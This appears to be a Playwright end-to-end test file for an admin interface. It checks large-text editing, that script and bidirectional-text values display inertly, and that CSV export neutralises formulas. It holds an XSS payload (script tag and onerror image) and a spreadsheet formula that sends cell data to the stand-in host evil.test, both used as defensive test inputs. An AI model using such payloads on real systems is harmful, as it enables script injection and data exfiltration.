import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import type { JsonObject } from '#engine/definition/index.ts';
import { openList, seen, until, type Journey } from './journey.ts';
import type { Product } from './product.ts';
import { apiOf } from './record-api.ts';

const NAME = 'oddity/text';
const SCRIPT = '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">';
const TURNED = 'مرحبا \u202eecruos';
const FORMULA = '=HYPERLINK("http://evil.test?"&A1,"click")';
const EMOJI = '👩‍👩‍👧‍👦🏳️‍🌈';
const LINE = 'A line of text, 一行文字, with all that belongs to it.\n';
/** Nine megabytes. */
const LONG = LINE.repeat(Math.floor(9_000_000 / Buffer.byteLength(LINE)));

const DEFINITION = {
  name: NAME,
  title: { 'zh-cn': '怪值', en: 'Oddities' },
  table: 'oddity_text',
  label: 'name',
  audit: true,
  export: true,
  fields: [
    { name: 'id', type: 'pk' },
    { name: 'name', type: 'string', title: SCRIPT, required: true },
    { name: 'note', type: 'textarea', title: 'Note' },
    { name: 'data', type: 'json', title: 'Data' },
    { name: 'pairs', type: 'array', title: 'Pairs' },
    { name: 'body', type: 'editor', title: 'Body' },
  ],
};

/** A table of its own, as long as `walk` takes. */
async function withOddities({ page, product }: { page: Page; product: Product }, walk: () => Promise<void>) {
  const folder = path.join(product.definitions, 'oddity');
  mkdirSync(folder, { recursive: true });
  writeFileSync(path.join(folder, 'text.json'), JSON.stringify(DEFINITION));
  try {
    await openList(page, 'northwind/shippers');
    const api = await apiOf(page);
    await until('the table is there', () =>
      api.list(NAME).then(
        ({ rows }) => Array.isArray(rows),
        () => false,
      ),
    );
    await walk();
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** Adds a row as the person on this page. */
async function add(page: Page, values: JsonObject): Promise<JsonObject> {
  const kept = await page.evaluate(() => localStorage.getItem('metamall.admin'));
  const { token } = JSON.parse(kept ?? '{}') as { token: string };
  const response = await fetch(new URL(`/admin/rest/${NAME}`, page.url()), {
    method: 'POST',
    headers: { batoken: token, server: 'true', 'content-type': 'application/json' },
    body: JSON.stringify(values),
  });
  assert.equal(response.status, 201, await response.clone().text());
  return (await response.json()) as JsonObject;
}

const save = (page: Page): Promise<void> => page.getByRole('button', { name: '保存', exact: true }).click();

const hacked = (page: Page): Promise<unknown> => page.evaluate('window.hacked');

/** Texts of megabytes, and texts that try to be more than that. */
export const oddValueJourneys: Journey[] = [
  {
    name: 'nine megabytes are pasted into a form, saved, and changed in one part, and the rest stays to the letter',
    walk: (walk) =>
      withOddities(walk, async () => {
        const { page } = walk;
        await page.goto(`/admin/${NAME}/add`);
        await page.locator('#root_name').fill('long');
        await page.locator('#root_note').evaluate((box, text) => {
          const data = new DataTransfer();
          data.setData('text/plain', text);
          box.dispatchEvent(
            new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
          );
        }, LONG);
        await seen(page, /第 1 段，共 \d+ 段/);
        await save(page);
        await seen(page, '已新增');
        const api = await apiOf(page);
        const [row] = (await api.list(NAME)).rows;
        const id = String(row?.id);
        assert.equal((await api.row(NAME, id))?.note, LONG);

        await page.goto(`/admin/${NAME}/${id}`);
        await page.getByRole('button', { name: '编辑全文' }).click();
        await page.getByRole('button', { name: '下一段' }).click();
        const area = page.locator('textarea#root_note');
        await area.press('Control+Home');
        await area.pressSequentially('HERE ');
        await save(page);
        await seen(page, '已保存');
        const after = String((await api.row(NAME, id))?.note);
        assert.equal(after.length, LONG.length + 5);
        assert.equal(after.replace('HERE ', ''), LONG);
        assert.ok(after.indexOf('HERE ') > 10_000);
      }),
  },
  {
    name: 'scripts, turned text and emoji are text in titles, list, form and detail, and run nowhere',
    walk: (walk) =>
      withOddities(walk, async () => {
        const { page } = walk;
        const api = await apiOf(page);
        const values: JsonObject = {
          name: SCRIPT,
          note: `${TURNED} ${EMOJI} ${SCRIPT}`,
          data: { [SCRIPT]: [SCRIPT, EMOJI] },
          pairs: [{ key: SCRIPT, value: TURNED }],
          body: `<p>${EMOJI}</p>${SCRIPT}`,
        };
        const made = await add(page, values);
        await page.goto(`/admin/${NAME}`);
        await seen(page, SCRIPT);
        assert.equal(await hacked(page), undefined);
        await page.goto(`/admin/${NAME}/${String(made.id)}`);
        await until('the name is as it was typed', async () => {
          return (await page.locator('#root_name').inputValue()) === SCRIPT;
        });
        assert.equal(await page.locator('#root_note').inputValue(), values.note);
        await page.locator('#root_name').fill(`${SCRIPT} ${EMOJI}`);
        await save(page);
        await seen(page, '已保存');
        const row = await api.row(NAME, String(made.id));
        assert.equal(row?.name, `${SCRIPT} ${EMOJI}`);
        assert.equal(row?.note, values.note);
        assert.deepEqual(row?.data, values.data);
        assert.ok(!String(row?.body).includes('script') && String(row?.body).includes(EMOJI));
        assert.equal(await hacked(page), undefined);
        await page.goto(`/admin/${NAME}`);
        await page.getByRole('row', { name: EMOJI }).getByRole('button', { name: '查看详情' }).click();
        await page.getByRole('tab', { name: '变更记录' }).click();
        const reported = page.getByRole('cell').getByText(String(values.note)).first();
        await reported.waitFor();
        await page.getByRole('cell').getByText(`${SCRIPT} ${EMOJI}`).first().waitFor();
        // What turns a text round ends with it.
        assert.match(await reported.evaluate((it) => getComputedStyle(it).unicodeBidi), /isolate|plaintext/);
        assert.equal(await hacked(page), undefined);
      }),
  },
  {
    name: 'an exported list holds odd texts to the letter, and none that a spreadsheet would run',
    walk: (walk) =>
      withOddities(walk, async () => {
        const { page } = walk;
        const names = [FORMULA, `'${FORMULA}`, SCRIPT, TURNED, EMOJI, 'one\ntwo;=3,"4"', '-5.5'];
        for (const name of names) await add(page, { name });
        await page.goto(`/admin/${NAME}`);
        await seen(page, FORMULA);
        const given = page.waitForEvent('download');
        await page.getByRole('button', { name: '导出' }).click();
        await page.getByRole('menuitem', { name: /^导出符合条件的全部 .* · CSV$/ }).click();
        const text = readFileSync(await (await given).path(), 'utf8');
        const [heads = [], ...lines] = parse(text, { bom: true });
        const cells = lines.map((line) => line[heads.indexOf(SCRIPT)] ?? '');
        for (const name of names) {
          const isRun = name.includes(FORMULA);
          assert.ok(cells.includes(isRun ? `'${name}` : name), `${name} is not in ${cells.join('|')}`);
        }
        assert.ok(cells.every((cell) => !/^[=+@]/.test(cell)));
      }),
  },
];
